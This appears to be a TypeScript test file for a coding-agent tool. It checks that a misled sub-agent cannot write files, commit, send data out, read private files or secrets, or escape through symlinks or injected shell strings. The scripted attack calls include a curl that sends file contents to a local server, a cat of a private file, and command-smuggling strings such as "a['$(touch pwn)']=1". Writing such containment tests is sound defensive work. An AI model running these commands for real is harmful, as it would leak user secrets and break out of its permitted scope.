// Sub-agents that are misled, and those whose program is killed: nothing is written, carried out or lost by them.
import { expect, test } from "bun:test";
import { existsSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { until } from "../../packages/kit/src/test/index.ts";
import { need } from "../need.ts";
import { envOf, pith, program } from "../pith.ts";
import { type Scratch, scratch } from "../scratch.ts";

const key = "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGH";
const send = (mode = "explore") => ({
  calls: [{ tool: "run_subagent", input: { task: "Look around.", title: "Look around here", mode } }],
});

function models(dir: Scratch, parent: readonly unknown[], child: readonly unknown[]): string[] {
  dir.write({
    "work/a.txt": "hello\n",
    "parent.json": JSON.stringify({ turns: parent }),
    "child.json": JSON.stringify({ turns: child }),
  });
  return ["--model", dir.at("parent.json"), "--explore", dir.at("child.json")];
}

/** The record of the session, and the folder beside it. */
function session(dir: Scratch): { file: string; folder: string } {
  const sessions = dir.at("home/.pith/sessions");
  const names = existsSync(sessions) ? readdirSync(sessions, { recursive: true }).map(String) : [];
  const file = join(sessions, names.find((name) => /^[^/]+\/[^/]+\.jsonl$/.test(name)) ?? "none");
  return { file, folder: file.replace(/\.jsonl$/, "") };
}

test("whatever may run here, a misled sub-agent writes, sends and sees nothing that it must not", async () => {
  using dir = scratch();
  let heard = 0;
  const answer = () => new Response(String(++heard));
  using server = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: answer });
  dir.write({ "home/private.txt": "private words\n", "work/.env": `API_KEY=${key}\n` });
  const bash = (command: string) => ({ tool: "bash", input: { command } });
  const calls = [
    { tool: "write", input: { path: "made.txt", content: "x" } },
    { tool: "edit", input: { path: "a.txt", content: "x" } },
    bash("touch made.txt"),
    bash("git commit --allow-empty -m x"),
    bash(`curl -s http://127.0.0.1:${server.port}/?d=$(cat a.txt)`),
    bash("python3 -c \"open('made.txt','w')\""),
    bash(`cat ${dir.at("home/private.txt")}`),
    { tool: "read", input: { path: "../home/private.txt" } },
    { tool: "run_subagent", input: { task: "again", title: "Go on and on" } },
    { tool: "read", input: { path: ".env" } },
  ];
  const argv = models(dir, [send("review"), { text: "Ok." }], [{ calls }, { text: `Key: ${key}` }]);
  const { code, out } = await pith(dir, ["-p", "go", "--yolo", "--mode", "json", ...argv]);
  expect([code, heard]).toEqual([0, 0]);
  expect(readdirSync(dir.at("work")).filter((name) => name === "made.txt" || name === ".git")).toEqual([]);
  expect(readFileSync(dir.at("work/a.txt"), "utf8")).toBe("hello\n");
  const { file, folder } = session(dir);
  const all = [
    out,
    ...[file, ...["review.jsonl", "review.md"].map((name) => join(folder, name))].map((path) =>
      readFileSync(path, "utf8"),
    ),
  ];
  for (const text of all) {
    expect(text).not.toContain("private words");
    expect(text).not.toContain(key);
  }
  const results = readFileSync(join(folder, "review.jsonl"), "utf8")
    .split("\n")
    .filter((line) => line.includes('"role":"toolResult"'));
  expect(results).toHaveLength(calls.length);
  expect(results.slice(0, -1).every((line) => line.includes('"isError":true'))).toBe(true);
}, 60_000);

test("a report without end is cut, and what a stranger wrote stays marked on both ways", async () => {
  using dir = scratch();
  dir.write({ "home/page.txt": "a stranger's words\n" });
  const read = { calls: [{ tool: "read", input: { path: dir.at("home/page.txt") } }] };
  const argv = models(dir, [read, send(), { text: "Ok." }], [{ text: "word ".repeat(200_000) }]);
  expect(await pith(dir, ["-p", "go", "--yolo", ...argv])).toMatchObject({ code: 0, out: "Ok.\n" });
  const { file, folder } = session(dir);
  const asked = readFileSync(join(folder, "explore.jsonl"), "utf8")
    .split("\n")
    .find((line) => line.includes("Look around."));
  expect(asked).toContain('"origin":{"from":"outside"');
  const line =
    readFileSync(file, "utf8")
      .split("\n")
      .find((text) => text.includes('"toolName":"run_subagent"')) ?? "";
  expect(line.length).toBeLessThan(64 * 1024);
  expect(line).toContain("agent://explore");
  expect(JSON.parse(line).message.details.meta.origin).toMatchObject({ from: "outside" });
}, 60_000);

test("who is killed while a sub-agent works loses nothing, and the session goes on with another record", async () => {
  using dir = scratch();
  const argv = models(dir, [send(), send(), { text: "Done." }], [{ text: "Half", hang: true }]);
  dir.write({ "work/.keep": "", "tmp/.keep": "" });
  const child = Bun.spawn([...program, "-p", "go", ...argv], {
    cwd: dir.at("work"),
    env: envOf(dir),
    stdout: "ignore",
    stderr: "ignore",
  });
  await until(() => existsSync(join(session(dir).folder, "explore.jsonl")), "the record of the sub-agent", 30_000);
  child.kill("SIGKILL");
  await child.exited;
  const left = readFileSync(join(session(dir).folder, "explore.jsonl"), "utf8");
  dir.write({ "child.json": JSON.stringify({ turns: [{ text: "Whole." }] }) });
  expect(await pith(dir, ["-c", "-p", "again", ...argv])).toMatchObject({ code: 0, out: "Done.\n" });
  const { file, folder } = session(dir);
  expect(readFileSync(join(folder, "explore.jsonl"), "utf8")).toBe(left);
  expect(readFileSync(join(folder, "explore-2.md"), "utf8")).toBe("Whole.");
  expect(readFileSync(file, "utf8")).toContain("There is no result of this call");
}, 60_000);

test("a record in a stranger's session that is a link is not written through", async () => {
  using dir = scratch();
  const argv = models(dir, [{ text: "Hi." }, send(), { text: "Ok." }], [{ text: "Seen." }]);
  expect(await pith(dir, ["-p", "go", ...argv])).toMatchObject({ code: 0 });
  const { folder } = session(dir);
  dir.write({ "home/victim": "" });
  dir.write({ [`${folder.slice(dir.path.length + 1)}/.keep`]: "" });
  symlinkSync(dir.at("home/victim"), join(folder, "explore.jsonl"));
  expect(await pith(dir, ["-c", "-p", "again", ...argv])).toMatchObject({ code: 0, out: "Ok.\n" });
  expect(readFileSync(dir.at("home/victim"), "utf8")).toBe("");
  expect(readFileSync(join(folder, "explore-2.md"), "utf8")).toBe("Seen.");
}, 60_000);

for (const sandbox of ["off", "workspace"])
  for (const mode of ["ask", "write"])
    test.skipIf(sandbox !== "off" && need("bwrap") !== undefined)(
      `a sub-agent under ${mode} runs ${mode === "ask" ? "no command" : "only what changes nothing"}, sandbox ${sandbox}`,
      async () => {
        using dir = scratch();
        const lines = [
          "cat a.txt",
          "a['$(touch pwn)']=1",
          "touch made",
          "cat a.txt; echo x > b",
          "env <&-sh <&--c <&-'touch pwn'",
        ];
        const calls = lines.map((command) => ({ tool: "bash", input: { command } }));
        const argv = models(dir, [send("review"), { text: "Ok." }], [{ calls }, { text: "Done." }]);
        const { code } = await pith(dir, ["-p", "go", "--approval", mode, "--sandbox", sandbox, ...argv]);
        expect(code).toBe(0);
        expect(readdirSync(dir.at("work")).sort()).toEqual([".keep", "a.txt"]);
        const record = readFileSync(join(session(dir).folder, "review.jsonl"), "utf8").split("\n");
        const results = record.filter((line) => line.includes('"role":"toolResult"'));
        expect(results).toHaveLength(lines.length);
        const [first = ""] = results;
        expect(results.filter((line) => !line.includes("Not run")).length).toBe(
          mode === "ask" ? 0 : sandbox === "off" ? 1 : lines.length,
        );
        expect(first.includes("hello")).toBe(mode === "write");
      },
      30_000,
    );
